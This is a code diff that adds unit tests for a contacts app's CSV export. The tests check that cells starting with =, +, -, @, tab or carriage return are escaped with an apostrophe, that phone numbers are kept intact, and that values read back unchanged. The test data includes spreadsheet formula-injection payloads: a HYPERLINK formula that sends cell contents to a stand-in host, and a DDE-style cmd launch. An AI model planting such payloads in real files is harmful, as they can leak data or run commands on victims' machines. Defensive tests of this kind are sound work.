@@ -67,6 +67,8 @@ private slots:
     void badInputFailsOrSkips_data();
     void badInputFailsOrSkips();
     void programsFormatRoundTrips();
+    void spreadsheetCells_data();
+    void spreadsheetCells();
     void presetsReadWhatTheyWrite_data();
     void presetsReadWhatTheyWrite();
 };
@@ -326,9 +328,9 @@ void TestCsv::programsFormatRoundTrips()
                              : QRandomGenerator::global()->generate();
     qInfo("round-trip seed %u (set PELMORA_SEED to repeat)", seed);
     QRandomGenerator random(seed);
-    const QStringList pieces{"a",  "Z",  "7", " ", "é",  "Ø",    "ß",    "中",
-                             "文", "😀",  "🎉", ",", "\"", ";",    "\r\n", "\t",
-                             "'",  "\\", "=", "#", "\n", "\"\"", "\r",   "€"};
+    const QStringList pieces{"a",  "Z",    "7",  " ", "é",    "Ø",  "ß", "中", "文", "😀",
+                             "🎉",  ",",    "\"", ";", "\r\n", "\t", "'", "\\", "=",  "#",
+                             "\n", "\"\"", "\r", "€", "+",    "-",  "@", "(",  "/"};
     const CsvPreset &own = *csvPreset(QStringLiteral("pelmora"));
 
     QList<ContactValues> written;
@@ -357,6 +359,69 @@ void TestCsv::programsFormatRoundTrips()
         QVERIFY(read->contacts[c].extras.isEmpty());
         for (int i = 0; i < contactFieldCount; ++i)
             QCOMPARE(read->contacts[c].values[i].toUtf8(), written[c][i].toUtf8());
+    }
+}
+
+void TestCsv::spreadsheetCells_data()
+{
+    QTest::addColumn<QString>("value");
+    QTest::addColumn<QByteArray>("written"); // the cell in the file
+    // What other programs that guard their cells may write for the same value; "" for none.
+    QTest::addColumn<QByteArray>("guardedElsewhere");
+
+    QTest::newRow("= formula") << R"c(=HYPERLINK("http://x.example/?"&A1,"Click"))c"
+                               << QByteArray(
+                                      R"c("'=HYPERLINK(""http://x.example/?""&A1,""Click"")")c")
+                               << QByteArray();
+    QTest::newRow("@ formula") << R"c(@SUM(1+1)*cmd|' /C calc'!A0)c"
+                               << QByteArray(R"c('@SUM(1+1)*cmd|' /C calc'!A0)c") << QByteArray();
+    QTest::newRow("+ formula") << "+A1+B1" << QByteArray("'+A1+B1") << QByteArray();
+    QTest::newRow("- formula") << "-2+3" << QByteArray("'-2+3") << QByteArray();
+    QTest::newRow("tab first") << "\t=1" << QByteArray("\"'\t=1\"") << QByteArray();
+    QTest::newRow("carriage return first") << "\r=1" << QByteArray("\"'\r=1\"") << QByteArray();
+    QTest::newRow("phone with brackets and dashes")
+        << "+1 (555) 123-4567" << QByteArray("+1 (555) 123-4567")
+        << QByteArray("'+1 (555) 123-4567");
+    QTest::newRow("phone with dots and a slash")
+        << "+49 30/1234.56" << QByteArray("+49 30/1234.56") << QByteArray("'+49 30/1234.56");
+    QTest::newRow("+ and no digit is no phone") << "+ -" << QByteArray("'+ -") << QByteArray();
+    QTest::newRow("phone with words is no phone")
+        << "+1 555 ext 12" << QByteArray("'+1 555 ext 12") << QByteArray();
+    QTest::newRow("user's own apostrophe") << "'quoted" << QByteArray("'quoted") << QByteArray();
+    QTest::newRow("user's apostrophe before =") << "'=x" << QByteArray("''=x") << QByteArray();
+    QTest::newRow("user's apostrophe before a phone")
+        << "'+1 555" << QByteArray("''+1 555") << QByteArray();
+    QTest::newRow("= inside") << "a=b" << QByteArray("a=b") << QByteArray();
+}
+
+// Written, a cell a spreadsheet would run is text; read back, every value is what it was.
+void TestCsv::spreadsheetCells()
+{
+    QFETCH(QString, value);
+    QFETCH(QByteArray, written);
+    QFETCH(QByteArray, guardedElsewhere);
+    const CsvPreset &own = *csvPreset(QStringLiteral("pelmora"));
+    ContactValues values;
+    values[fieldIndex(ContactField::ContactId)] = QStringLiteral("1");
+    values[fieldIndex(ContactField::Notes)] = value;
+    const auto rowWith = [](const QByteArray &cell) {
+        QByteArrayList cells(contactFieldCount);
+        cells[fieldIndex(ContactField::ContactId)] = "1";
+        cells[fieldIndex(ContactField::Notes)] = cell;
+        return cells.join(',') + "\r\n";
+    };
+    QCOMPARE(csvRow(values, own), rowWith(written));
+
+    for (const QByteArray &cell : {written, guardedElsewhere}) {
+        if (cell.isEmpty())
+            continue;
+        QByteArray bytes = csvHeader(own) + rowWith(cell);
+        QBuffer buffer(&bytes);
+        QVERIFY(buffer.open(QIODevice::ReadOnly));
+        const Result<ReadContacts> read = readCsv(buffer, QStringLiteral("cells.csv"), &own);
+        QVERIFY2(read.ok(), qPrintable(read.error()));
+        QCOMPARE(read->contacts.size(), 1);
+        QCOMPARE(read->contacts[0].values[fieldIndex(ContactField::Notes)], value);
     }
 }
 
